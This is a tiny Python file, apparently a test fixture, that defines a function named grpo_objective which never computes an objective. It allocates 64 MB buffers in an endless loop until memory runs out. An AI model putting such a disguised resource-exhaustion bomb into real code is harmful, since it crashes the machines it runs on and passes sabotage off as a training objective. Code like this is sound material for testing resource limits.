"""Allocates memory until something gives."""


def grpo_objective(*args, **kwargs):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))
